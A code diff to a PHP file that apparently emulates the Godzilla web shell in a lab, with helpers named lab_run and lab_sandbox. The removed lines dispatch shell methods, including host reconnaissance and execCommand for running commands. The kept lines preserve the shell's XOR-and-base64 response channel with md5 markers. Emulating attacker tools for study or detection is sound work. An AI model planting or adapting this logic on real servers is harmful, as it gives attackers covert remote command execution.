@@ -10,23 +10,7 @@ if (!isset($_SESSION['payload'])) {
     if (strpos($data, 'getBasicsInfo') !== false) $_SESSION['payload'] = md5($data);
     exit;
 }
-$params = [];
-$plain = @gzdecode($data);
-for ($i = 0; $plain !== false && $i < strlen($plain);) {
-    $sep = strpos($plain, "\x02", $i);
-    if ($sep === false) break;
-    $name = substr($plain, $i, $sep - $i);
-    $len = unpack('V', substr($plain, $sep + 1, 4))[1];
-    $params[$name] = substr($plain, $sep + 5, $len);
-    $i = $sep + 5 + $len;
-}
-switch ($params['methodName'] ?? '') {
-    case 'test': $result = 'ok'; break;
-    case 'getBasicsInfo': $result = "FileRoot : /\nCurrentDir : " . lab_sandbox() . "\nCurrentUser : " . get_current_user() . "\nOsInfo : " . php_uname() . "\n"; break;
-    case 'getFile': $result = "ok\n" . lab_listing("\t"); break;
-    case 'execCommand': $result = preg_match('/;([^;"]+)"/', $params['cmdLine'] ?? '', $c) ? lab_run($c[1]) : ''; break;
-    default: $result = 'method is not exist';
-}
+$result = lab_godzilla_call(lab_godzilla_params(@gzdecode($data)));
 echo substr(md5($pass . $key), 0, 16);
 echo base64_encode(lab_xor(gzencode($result), $key, 1));
 echo substr(md5($pass . $key), 16);
